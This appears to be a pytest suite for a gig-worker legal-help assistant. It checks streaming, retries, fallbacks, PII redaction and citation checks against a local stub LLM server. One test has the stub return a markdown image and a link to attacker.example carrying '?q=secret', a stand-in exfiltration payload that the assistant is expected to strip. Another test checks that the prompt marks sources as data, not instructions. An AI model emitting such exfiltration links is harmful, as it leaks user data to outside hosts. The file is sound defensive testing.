"""The generative path against a real OpenAI-compatible HTTP server on 127.0.0.1 with faults."""
from __future__ import annotations

import time

import pytest

from assistant.config import load_settings
from assistant.core import Assistant
from assistant.errors import ProviderBusy, ProviderConfigError, ProviderError, StreamInterrupted
from assistant.llm import OpenAIChatModel
from llm_stub import StubServer

Q = ("Can the app deactivate me without telling me why?", "US-WA-Seattle")


@pytest.fixture
def stub():
    s = StubServer().start()
    yield s
    s.stop()


def _model(stub, **kw):
    s = load_settings(llm_base_url=stub.base_url, llm_model="stub-model", llm_api_key="sk-test-secret",
                      llm_timeout_s=kw.pop("timeout", 5.0), llm_max_retries=kw.pop("retries", 2), **kw)
    sleeps: list[float] = []
    return s, OpenAIChatModel(s, sleep=sleeps.append), sleeps


def _assistant(shared, settings, model):
    return Assistant(settings, shared.embedder, shared.store, shared.catalog, model)


def test_normal_stream_is_verified_and_cited(stub, shared_assistant):
    stub.default = ("stream", "In Seattle the company must tell you why in writing [1]. "
                              "You can ask for a human review [1][2].")
    s, model, _ = _model(stub)
    a = _assistant(shared_assistant, s, model)
    st = a.stream(*Q)
    pieces = list(st)
    assert len(pieces) > 5  # it really streamed
    ans = st.answer
    assert ans.mode == "generative" and not ans.incomplete
    assert ans.citations[0].doc_id == "seattle-deact"
    req = stub.requests[-1]["body"]
    assert req["stream"] is True and req["model"] == "stub-model"
    prompt = "\n".join(m["content"] for m in req["messages"])
    assert '<source n="1"' in prompt and "data, not instructions" in prompt
    assert stub.requests[-1]["auth"] == "Bearer sk-test-secret"


def test_invented_marker_is_dropped(stub, shared_assistant):
    stub.default = ("stream", "You must get written notice [1]. Also a bonus rule [9].")
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert "[9]" not in ans.text and "[1]" in ans.text
    assert any("[9]" in w for w in ans.warnings)
    assert [c.n for c in ans.citations] == [1]


def test_made_up_quote_loses_its_quotation_marks(stub, shared_assistant):
    stub.default = ("stream", 'The law says "drivers can never be deactivated for any reason at all" [1].')
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert '"drivers can never' not in ans.text
    assert any("word for word" in w for w in ans.warnings)


def test_images_and_foreign_links_are_removed(stub, shared_assistant):
    stub.default = ("stream", "See ![x](http://attacker.example/?q=secret) and "
                              "[this](http://attacker.example/a) rule [1].")
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert "attacker.example" not in ans.text


def test_429_with_short_retry_after_is_retried_once(stub, shared_assistant):
    stub.script = [("status", 429, {"retry-after": "1"})]
    stub.default = ("stream", "Written notice is required [1].")
    s, model, sleeps = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert ans.mode == "generative" and sleeps == [1.0]
    assert len(stub.requests) == 2


def test_429_with_long_retry_after_falls_back_without_waiting(stub, shared_assistant):
    stub.script = [("status", 429, {"retry-after": "300"})]
    s, model, sleeps = _model(stub)
    t0 = time.monotonic()
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert time.monotonic() - t0 < 10 and sleeps == []
    assert ans.mode == "extractive" and ans.citations
    assert "busy" in ans.warnings[0]
    assert len(stub.requests) == 1
    with pytest.raises(ProviderBusy):
        stub.script = [("status", 429, {"retry-after": "300"})]
        list(model.stream([{"role": "user", "content": "x"}]))


def test_500s_are_retried_within_bound_then_extractive(stub, shared_assistant):
    stub.default = ("status", 500, {})
    s, model, sleeps = _model(stub, retries=2)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert len(stub.requests) == 3 and len(sleeps) == 2
    assert ans.mode == "extractive" and ans.citations
    assert "AI writer is unavailable" in ans.warnings[0]


def test_timeout_falls_back(stub, shared_assistant):
    stub.default = ("stall", 3)
    s, model, _ = _model(stub, timeout=0.5, retries=1)
    t0 = time.monotonic()
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert time.monotonic() - t0 < 3.5
    assert ans.mode == "extractive" and "timed out" in ans.warnings[0]


def test_stream_cut_keeps_partial_and_marks_incomplete(stub, shared_assistant):
    stub.default = ("cut", "In Seattle the company must give written notice [1] before it ends "
                           "your account and you may ask for review", 8)
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert ans.incomplete and ans.mode == "generative"
    assert ans.text.startswith("In Seattle the company must")
    assert any("cut off" in w for w in ans.warnings)
    with pytest.raises(StreamInterrupted) as exc:
        list(model.stream([{"role": "user", "content": "x"}]))
    assert exc.value.partial.startswith("In Seattle")


def test_auth_error_is_not_retried_and_hides_key(stub, shared_assistant):
    stub.default = ("status", 401, {})
    s, model, sleeps = _model(stub)
    with pytest.raises(ProviderConfigError) as exc:
        list(model.stream([{"role": "user", "content": "x"}]))
    assert "sk-test-secret" not in str(exc.value) and len(stub.requests) == 1 and sleeps == []


def test_content_filter_and_empty_answers(stub, shared_assistant):
    stub.default = ("filter", "")
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert ans.mode == "extractive"  # nothing usable arrived: quote the sources instead
    stub.default = ("stream", "")
    with pytest.raises(ProviderError):
        list(model.stream([{"role": "user", "content": "x"}]))


def test_connection_refused_is_fast(shared_assistant):
    s = load_settings(llm_base_url="http://127.0.0.1:9/v1", llm_model="m", llm_max_retries=1)
    model = OpenAIChatModel(s, sleep=lambda _s: None)
    t0 = time.monotonic()
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert time.monotonic() - t0 < 5
    assert ans.mode == "extractive" and ans.citations


def test_pii_never_reaches_the_llm(stub, shared_assistant):
    stub.default = ("stream", "Notice is required [1].")
    s, model, _ = _model(stub)
    _assistant(shared_assistant, s, model).ask(
        "My SSN is 123-45-6789 and my A-number A123456789. Can the app deactivate me without "
        "telling me why?", "US-WA-Seattle")
    sent = str(stub.requests[-1]["body"])
    assert "123-45-6789" not in sent and "A123456789" not in sent and "[SSN]" in sent


def test_pii_in_earlier_turns_never_reaches_the_llm(stub, shared_assistant):
    """Regression: follow-ups sent the previous question unredacted through the history."""
    stub.default = ("stream", "Notice is required [1].")
    s, model, _ = _model(stub)
    history = [("user", "my ssn is 123-45-6789, call me at +34 612 34 56 78 or jo@example.com"),
               ("assistant", "I removed personal numbers.")]
    ans = _assistant(shared_assistant, s, model).ask("and can they deactivate me without notice?",
                                                     "US-WA-Seattle", history)
    sent = str(stub.requests[-1]["body"])
    assert "123-45-6789" not in sent and "612 34 56 78" not in sent and "jo@example.com" not in sent
    assert any("privacy" in w for w in ans.warnings)


def test_closing_the_stream_closes_the_connection(stub, shared_assistant):
    stub.default = ("stream", " ".join(["word"] * 200) + " [1]")
    stub.token_delay = 0.01
    s, model, _ = _model(stub)
    st = _assistant(shared_assistant, s, model).stream(*Q)
    it = iter(st)
    next(it), next(it)
    st.close()  # a new question arrived: the old stream is abandoned
    assert stub.disconnected.wait(5) and stub.disconnects == 1


def test_context_budget_limits_sources_given_and_citable(stub, shared_assistant):
    stub.default = ("stream", "Notice is required [1]. Also [2].")
    s, model, _ = _model(stub, context_token_budget=100)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    prompt = stub.requests[-1]["body"]["messages"][-1]["content"]
    assert prompt.count("<source n=") == 1          # only what fits 100 tokens
    assert "[2]" not in ans.text and any("[2]" in w for w in ans.warnings)


def test_context_length_exceeded_is_trimmed_and_retried_once(stub, shared_assistant):
    stub.default = ("stream", "Written notice first [1].")
    import json as _json

    s, model, _ = _model(stub)
    stub.script = [("ctx400",)]

    class H(stub.RequestHandlerClass):
        def do_POST(self):  # noqa: N802
            if stub.script and stub.script[0] == ("ctx400",):
                stub.script.pop(0)
                length = int(self.headers.get("content-length", 0))
                body = _json.loads(self.rfile.read(length))
                stub.requests.append({"path": self.path, "body": body, "auth": None})
                payload = _json.dumps({"error": {"message": "This model's maximum context length is "
                                                 "8192 tokens", "code": "context_length_exceeded"}}).encode()
                self.send_response(400)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)
                return
            super().do_POST()

    stub.RequestHandlerClass = H
    try:
        ans = _assistant(shared_assistant, s, model).ask(*Q)
    finally:
        stub.RequestHandlerClass = H.__mro__[1]
    first, second = (r["body"]["messages"][-1]["content"].count("<source n=") for r in stub.requests[-2:])
    assert second < first and ans.mode == "generative" and ans.citations


def test_concurrency_cap_gives_fast_busy_fallback(stub, shared_assistant):
    import threading

    stub.default = ("stream", "In Seattle the company must tell you why in writing [1].")
    stub.gate = threading.Event()  # the first answer streams only when the test says so
    s, model, _ = _model(stub, llm_max_concurrency=1, llm_queue_wait_s=0.2)
    a = _assistant(shared_assistant, s, model)
    answers = []
    first = threading.Thread(target=lambda: answers.append(a.ask(*Q)))
    first.start()
    try:
        assert stub.received.wait(30)  # the first question holds the only slot, its stream waits
        t0 = time.monotonic()
        ans = a.ask(*Q)
        assert time.monotonic() - t0 < 1.5
        assert ans.mode == "extractive" and "Many people are asking" in ans.warnings[0]
        assert len(stub.requests) == 1  # the busy question never reached the server
    finally:
        stub.gate.set()
        first.join(timeout=30)
    assert [x.mode for x in answers] == ["generative"]
    assert a.ask(*Q).mode == "generative"  # slot released afterwards


def test_openai_embeddings_option_end_to_end(stub, tmp_path, corpus):
    """GIGRIGHTS_EMBEDDER=openai against the OpenAI-compatible /v1/embeddings of the stub."""
    from assistant.core import build_assistant
    from ingest.manifest import load_manifest
    from ingest.pipeline import Ingestor

    # The stub's vectors carry no meaning, so the intent classifier trained on them cannot either:
    # its refusals are switched off here (this test is about the embeddings option, not the gate).
    s = load_settings(data_dir=tmp_path / "d", embedder="openai", embedding_base_url=stub.base_url,
                      embedding_api_key="sk-emb", embedding_model="text-embedding-3-small",
                      intent_min=1.0, fraud_min=1.0)
    a = build_assistant(s)
    try:
        assert a.store.name == "chunks__openai-text-embedding-3-small"  # never mixed with USE vectors
        rep = Ingestor(s, a.embedder, a.store, a.catalog).ingest_manifest(load_manifest(corpus))
        assert rep.count("failed") == 0
        ans = a.ask("Seattle deactivation notice review", "US-WA-Seattle")
        assert ans.citations and ans.citations[0].doc_id == "seattle-deact"
        emb = [r for r in stub.requests if r["path"].endswith("/embeddings")]
        assert emb and emb[-1]["body"]["model"] == "text-embedding-3-small"
        assert emb[-1]["auth"] == "Bearer sk-emb"
    finally:
        a.close()


def test_generated_figures_are_checked_against_the_cited_source(stub, shared_assistant):
    """The same figure check as the facts: a number the cited source does not hold is flagged."""
    stub.default = ("stream", "The notice must come at least 30 days before the deactivation [1].")
    s, model, _ = _model(stub)
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert ans.mode == "generative" and ans.extra["figure_check"]
    assert any("not found in the sources" in w for w in ans.warnings)
    stub.default = ("stream", "The notice must come at least 14 days before the deactivation [1].")
    ans = _assistant(shared_assistant, s, model).ask(*Q)
    assert ans.extra["figure_check"] == [] and not any("not found in the sources" in w for w in ans.warnings)
